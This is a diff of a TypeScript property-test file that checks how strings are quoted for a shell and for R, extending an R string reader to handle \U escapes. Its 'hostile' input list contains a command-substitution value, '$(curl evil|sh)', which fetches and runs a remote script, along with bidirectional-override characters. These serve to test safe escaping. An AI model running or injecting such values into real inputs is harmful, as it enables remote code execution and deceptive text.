@@ -32,6 +32,7 @@ const hostile = [
   "é 🐫",
   "\u0001\u007f\u2028",
   "\ud800",
+  "\u202ea\u2066b\u{e0001}",
   "a\u0000b",
   "http://x/$(curl evil|sh)",
 ];
@@ -66,16 +67,21 @@ describe("a word of a shell", () => {
 /** Reads a string by the grammar of R (`?Quotes`), as far as what is written here uses it. */
 function readR(written: string): string {
   const escapes: Record<string, string> = { n: "\n", r: "\r", t: "\t", b: "\b", f: "\f", '"': '"', "\\": "\\" };
-  if (!/^"(?:[^"\\]|\\(?:["\\nrtbf]|u[0-9a-f]{4}))*"$/.test(written)) throw new Error(`no string of R: ${written}`);
-  return written.slice(1, -1).replace(/\\(u([0-9a-f]{4})|.)/g, (_all, letter: string, code?: string) => {
-    if (code === "0000") throw new Error("R has no NUL");
-    return code === undefined ? (escapes[letter] ?? "") : String.fromCharCode(Number.parseInt(code, 16));
-  });
+  if (!/^"(?:[^"\\]|\\(?:["\\nrtbf]|u[0-9a-f]{4}|U[0-9a-f]{8}))*"$/.test(written))
+    throw new Error(`no string of R: ${written}`);
+  return written
+    .slice(1, -1)
+    .replace(/\\(u([0-9a-f]{4})|U([0-9a-f]{8})|.)/g, (_all, letter: string, short?: string, long?: string) => {
+      const code = short ?? long;
+      if (code !== undefined && /^0+$/.test(code)) throw new Error("R has no NUL");
+      return code === undefined ? (escapes[letter] ?? "") : String.fromCodePoint(Number.parseInt(code, 16));
+    });
 }
 
 test("a string of R is read as the text that it stands for", () => {
   fc.assert(
     fc.property(text, (value) => {
+      expect(rString(value)).not.toMatch(/\p{C}/u);
       expect(readR(rString(value))).toBe(asRead(value));
     }),
     propertyRuns(500),
